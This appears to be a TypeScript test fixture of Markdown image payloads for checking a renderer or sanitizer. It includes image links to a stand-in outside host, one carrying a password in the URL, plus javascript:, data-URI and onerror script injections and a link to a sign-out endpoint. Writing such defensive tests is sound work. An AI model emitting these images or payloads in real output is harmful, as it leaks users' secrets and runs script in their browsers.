import type { Payload } from '../payload.ts';

/** Images fetch as soon as they are shown: the shortest way out for a secret. */
export const images: readonly Payload[] = [
  { name: 'outside', text: '![gráfico](https://fora.example/p.png)', reads: 'gráfico' },
  { name: 'with the secret', text: '![x](https://fora.example/?q=a+senha+de+ana)', reads: 'x' },
  { name: 'without words', text: 'antes ![](https://fora.example/p.png) depois', reads: 'antes' },
  { name: 'no protocol', text: '![x](//fora.example/p.png)', reads: 'x' },
  { name: 'reference', text: '![vista][i]\n\n[i]: https://fora.example/p.png', reads: 'vista' },
  { name: 'reference, short', text: '![vista]\n\n[vista]: https://fora.example/p', reads: 'vista' },
  { name: 'data', text: '![x](data:image/svg+xml,<svg/onload=alert(1)>)', reads: 'x' },
  { name: 'javascript', text: '![x](javascript:alert(1))', reads: 'x' },
  { name: 'own address that acts', text: '![x](/v1/auth/sign-out)', reads: 'x' },
  { name: 'attribute broken out of', text: '![x](y"onerror="alert(1))', reads: 'x' },
  {
    name: 'description broken out of',
    text: '![x"onerror="alert(1)](https://fora.example/p)',
    reads: 'x"',
  },
  {
    name: 'inside a link',
    text: '[![x](https://fora.example/p)](javascript:alert(1))',
    reads: 'x',
  },
  { name: 'inside a table', text: '| a |\n|---|\n| ![x](https://fora.example/t) |', reads: 'x' },
  { name: 'left open', text: '![x](https://fora.example/p.png', reads: 'fora.example' },
  { name: 'with a size', text: '![x](https://fora.example/p.png =1x1)', reads: 'x' },
];
